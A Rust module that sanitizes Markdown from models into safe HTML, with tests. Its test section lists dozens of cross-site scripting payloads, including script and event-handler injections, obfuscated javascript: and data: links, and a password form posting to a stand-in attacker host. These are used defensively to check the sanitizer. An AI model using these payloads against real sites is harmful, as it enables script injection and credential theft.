//! Markdown of agents and models, rendered so that it can carry no markup of
//! its own.
//!
//! Text in Markdown may come from a model, and so from anyone. Raw HTML is shown
//! as text, links lead to `http`, `https` and `mailto` only, images become their
//! alternative text, and headings are lowered below those of the page.

use maud::{Markup, PreEscaped, html};
use pulldown_cmark::{Alignment, CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd};

/// Renders Markdown as safe HTML.
pub fn markdown(text: &str) -> Markup {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut filter = Filter::default();
    let events = Parser::new_ext(text, options).filter_map(|event| filter.pass(event));
    let mut output = String::with_capacity(text.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut output, events);
    PreEscaped(output)
}

/// Turns untrusted events into trusted ones. After it, `InlineHtml` holds only
/// what this module wrote.
#[derive(Debug, Default)]
struct Filter {
    image_depth: usize,
    open_links: Vec<bool>,
}

impl Filter {
    fn pass<'a>(&mut self, event: Event<'a>) -> Option<Event<'a>> {
        match event {
            Event::Start(Tag::Image { .. }) => {
                self.image_depth += 1;
                None
            }
            Event::End(TagEnd::Image) => {
                self.image_depth = self.image_depth.saturating_sub(1);
                None
            }
            Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
            // Inside an image only its words are kept.
            Event::Start(_) | Event::End(_) if self.image_depth > 0 => None,
            Event::Start(Tag::Link { dest_url, .. }) => {
                let allowed = is_safe_link(&dest_url);
                self.open_links.push(allowed);
                allowed.then(|| open_link(&dest_url))
            }
            Event::End(TagEnd::Link) => self
                .open_links
                .pop()
                .unwrap_or(false)
                .then_some(Event::InlineHtml(CowStr::Borrowed("</a>"))),
            // An HTML block becomes a paragraph of its source.
            Event::Start(Tag::HtmlBlock) => Some(Event::Start(Tag::Paragraph)),
            Event::End(TagEnd::HtmlBlock) => Some(Event::End(TagEnd::Paragraph)),
            Event::Start(Tag::Heading { level, .. }) => Some(Event::Start(Tag::Heading {
                level: lowered(level),
                id: None,
                classes: Vec::new(),
                attrs: Vec::new(),
            })),
            Event::End(TagEnd::Heading(level)) => Some(Event::End(TagEnd::Heading(lowered(level)))),
            // Alignment would be written as a `style` attribute, which the
            // content security policy refuses.
            Event::Start(Tag::Table(columns)) => Some(Event::Start(Tag::Table(vec![
                Alignment::None;
                columns.len()
            ]))),
            Event::TaskListMarker(done) => Some(Event::Text(CowStr::Borrowed(if done {
                "\u{2611} "
            } else {
                "\u{2610} "
            }))),
            other => Some(other),
        }
    }
}

fn open_link<'a>(url: &str) -> Event<'a> {
    // maud escapes the address for the attribute.
    let url = html! { (url) }.into_string();
    Event::InlineHtml(format!("<a href=\"{url}\" rel=\"noopener noreferrer nofollow\">").into())
}

/// Whether an address is absolute and of a scheme that runs nothing. Whitespace
/// and control characters are refused, since browsers drop some of them before
/// they look at the scheme.
fn is_safe_link(url: &str) -> bool {
    let Some((scheme, rest)) = url.split_once(':') else {
        return false;
    };
    let clean = !url
        .chars()
        .any(|c| c.is_control() || c.is_whitespace() || c == '\\');
    clean
        && match scheme.to_ascii_lowercase().as_str() {
            "http" | "https" => rest.starts_with("//"),
            "mailto" => !rest.is_empty(),
            _ => false,
        }
}

const fn lowered(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "text <script>alert(1)</script> text",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "text <img src=x onerror=alert(1)> text",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<form action=//evil.example><input name=password><button>go</button></form>",
        "<style>*{background:url(//evil.example)}</style>",
        "<p style='position:fixed;inset:0'>cover</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<!--><script>alert(1)</script-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo '<script>alert(1)</script>' ?>",
        "<!DOCTYPE html><html><body onload=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](<java script:alert(1)>)",
        "[x](<javascript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;&#x76;ascript:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](//evil.example/)",
        "[x](/studio/logout)",
        "[x](https:evil)",
        "[x](\\\\evil.example)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](<https://a.example/\"><script>alert(1)</script>>)",
        "[x](https://a.example 'title\" onclick=\"alert(1)')",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "<https://a.example/\"onclick=alert(1)>",
        "<x@y.example\"onclick=alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        "![<script>alert(1)</script>](x.png)",
        "![a [b](javascript:alert(1)) ![c](x.png)](y.png)",
        "[![x](https://evil.example/x.png)](javascript:alert(1))",
        "# <script>alert(1)</script> {onclick=alert(1)}",
        "```\"><script>alert(1)</script>\nx\n```",
        "```html\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "| a <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\u{0}<script>alert(1)</script>",
        "\u{ff1c}script\u{ff1e}alert(1)",
    ];

    const TAGS: &[&str] = &[
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];

    /// Checks every tag of the output against an allow-list. The renderer
    /// escapes `<` in text, so each one that is left opens a tag.
    fn assert_harmless(source: &str, output: &str) {
        for part in output.split('<').skip(1) {
            let (tag, _) = part.split_once('>').expect("an unclosed tag");
            let tag = tag.trim_start_matches('/').trim_end_matches('/').trim();
            let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
            assert!(
                TAGS.contains(&name),
                "tag `{name}` from {source:?}: {output}"
            );
            if attributes.is_empty() {
                continue;
            }
            let href = attributes
                .strip_prefix("href=\"")
                .and_then(|rest| rest.strip_suffix("\" rel=\"noopener noreferrer nofollow\""));
            let language = attributes
                .strip_prefix("class=\"language-")
                .and_then(|rest| rest.strip_suffix('"'));
            let start = attributes
                .strip_prefix("start=\"")
                .and_then(|rest| rest.strip_suffix('"'));
            let value = href.or(language).or(start);
            let value = value.unwrap_or_else(|| panic!("attributes `{attributes}`: {source:?}"));
            assert!(!value.contains('"'), "{source:?}: {output}");
            if let Some(href) = href {
                assert!(
                    ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|s| href.starts_with(s)),
                    "{source:?}: {output}"
                );
            }
        }
    }

    #[test]
    fn hostile_markdown_renders_harmless() {
        assert!(HOSTILE.len() >= 40);
        for source in HOSTILE {
            assert_harmless(source, &markdown(source).into_string());
        }
    }

    #[test]
    fn hostile_markdown_stays_harmless_in_every_context() {
        for source in HOSTILE {
            for (before, after) in [
                ("> ", ""),
                ("- ", ""),
                ("**", "**"),
                ("[", "](https://a.example)"),
            ] {
                let source = format!("{before}{source}{after}");
                assert_harmless(&source, &markdown(&source).into_string());
            }
        }
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let output = markdown("a <b>bold</b> word").into_string();

        assert_eq!(output.trim(), "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>");
    }

    #[test]
    fn safe_links_keep_their_target_and_lose_their_power() {
        let output = markdown("[docs](https://docs.example/?a=1&b=2)").into_string();

        assert_eq!(
            output.trim(),
            "<p><a href=\"https://docs.example/?a=1&amp;b=2\" \
             rel=\"noopener noreferrer nofollow\">docs</a></p>"
        );
    }

    #[test]
    fn refused_links_and_images_leave_their_words() {
        let output =
            markdown("[go](javascript:x) ![a *cat*](https://a.example/c.png)").into_string();

        assert_eq!(output.trim(), "<p>go a cat</p>");
    }

    #[test]
    fn usual_markdown_renders() {
        let output =
            markdown("# Title\n\n1. *one*\n2. `two`\n\n|a|b|\n|-:|-|\n|1|2|").into_string();

        assert!(output.contains("<h3>Title</h3>"), "{output}");
        assert!(output.contains("<li><em>one</em></li>"));
        assert!(output.contains("<code>two</code>"));
        assert!(output.contains("<table>") && !output.contains("style="));
    }
}
